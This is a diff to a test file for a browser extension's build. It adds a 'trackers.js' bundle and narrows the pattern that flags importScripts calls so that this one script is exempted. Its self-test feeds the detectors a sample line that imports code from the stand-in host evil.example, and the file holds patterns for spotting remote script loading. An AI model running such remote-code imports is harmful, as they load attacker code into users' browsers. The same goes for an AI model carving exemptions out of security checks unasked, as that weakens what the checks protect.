@@ -24,7 +24,8 @@ const CODE_FROM_TEXT = [
 const CODE_FROM_ELSEWHERE = [
   /\bimport\s*\(\s*["'`](?:https?:)?\/\//,
   /\bfrom\s*["'`](?:https?:)?\/\//,
-  /\bimportScripts\s*\(/,
+  // One script of our own is loaded by its name: docs/decisions/0010.
+  /\bimportScripts\??\.?\s*\((?!["'`]\/trackers\.js["'`]\))/,
   /<(?:script|link|img|iframe)\b[^>]*(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i,
   /@import\b[^;]*(?:https?:)?\/\//,
   /url\(\s*["']?(?:https?:)?\/\//,
@@ -51,9 +52,9 @@ const HOSTS: Readonly<Record<string, string>> = {
 
 /** Host parts of every address written out in a text; `https://${…}` names none. */
 const hostsIn = (text: string): readonly string[] =>
-  [...text.matchAll(/\b(?:https?|wss?):\/\/([^\s"'`)\\/<>]*)/g)]
+  [...text.matchAll(/\b(?:https?|wss?):\/\/([^\s"'`)\\/<>$]*)/g)]
     .map(([, host = '']) => host)
-    .filter((host) => host !== '' && host !== '*' && !host.startsWith('$'));
+    .filter((host) => host !== '' && host !== '*');
 
 const PAGE_GLOBALS =
   /^(?:document|window|MutationObserver|DOMParser|HTMLElement|Element|Node|localStorage|sessionStorage)$/;
@@ -98,6 +99,7 @@ describe.each(BUILDS)('%s', (build) => {
     expect(paths).toEqual(
       expect.arrayContaining([
         'background.js',
+        'trackers.js',
         'content-scripts/jira.js',
         'jira-fields.js',
         'panel.js',
@@ -137,6 +139,9 @@ describe.each(BUILDS)('%s', (build) => {
     ['panel.js', 'idb'],
     ['panel.js', 'polyfill'],
     ['background.js', 'preact'],
+    ['trackers.js', 'zod'],
+    ['trackers.js', 'idb'],
+    ['trackers.js', 'polyfill'],
   ] as const)('%s has no %s', (path, library) => {
     expect(text(path)).not.toContain(MARKS[library]);
   });
@@ -154,7 +159,9 @@ describe.each(BUILDS)('%s', (build) => {
     );
   });
 
-  test('the background has no DOM code', () => expect(domUses(text('background.js'))).toEqual([]));
+  test.each(['background.js', 'trackers.js'])('%s has no DOM code', (path) => {
+    expect(domUses(text(path))).toEqual([]);
+  });
 
   test('no source maps and no paths of a developer’s machine', () => {
     expect(
@@ -169,6 +176,10 @@ test('the checks can fail', () => {
   const bad = 'let a=Function;setTimeout("x");eval ("1");import("https://evil.example/x.js")';
   expect(CODE_FROM_TEXT.filter((pattern) => pattern.test(bad))).toHaveLength(3);
   expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test(bad))).toBe(true);
+  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('importScripts(`/other.js`)'))).toBe(true);
+  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('a.importScripts?.(`/trackers.js`)'))).toBe(
+    false,
+  );
   expect(hostsIn('`https://${host}/x` "https://evil.example/y"')).toEqual(['evil.example']);
   expect(domUses('let a={document:1};a.document();"window"')).toEqual([]);
   expect(domUses('document.title;x(window);e.querySelector("a");new MutationObserver(f)')).toHaveLength(4);
